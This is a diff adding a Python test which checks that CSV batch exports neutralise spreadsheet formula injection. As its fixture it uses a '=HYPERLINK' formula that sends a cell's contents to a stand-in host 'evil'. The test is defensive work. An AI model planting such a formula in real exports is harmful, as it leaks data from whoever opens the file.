@@ -26,3 +26,18 @@ def test_bulk_upload_and_manifest(tmp_path: Path) -> None:
 def test_unknown_template_variable_is_refused(tmp_path: Path) -> None:
     with pytest.raises(ValueError, match="no source column"):
         write_batch_csvs(tmp_path, "b", ["person_id", "age_hint"], iter([]))
+
+
+def test_exports_are_safe_to_open_in_a_spreadsheet(tmp_path: Path) -> None:
+    """A person ID that a spreadsheet would run as a formula is written as text (hitflow_csv)."""
+    rows = [
+        (1, '=HYPERLINK("http://evil/?"&A2,"Click me")', "https://x.org/1.jpg", None, None),
+        (2, "-7", "u", "H", "T"),
+    ]
+    files = write_batch_csvs(tmp_path, "b-1", ["person_id", "image_url"], iter(rows))
+    with open(files["input_csv"], newline="") as f:
+        upload = list(csv.reader(f))
+    with open(files["manifest_csv"], newline="") as f:
+        manifest = list(csv.reader(f))
+    assert upload[1][0] == '\'=HYPERLINK("http://evil/?"&A2,"Click me")' and upload[2][0] == "-7"
+    assert manifest[1][1] == upload[1][0] and manifest[2][1] == "-7"
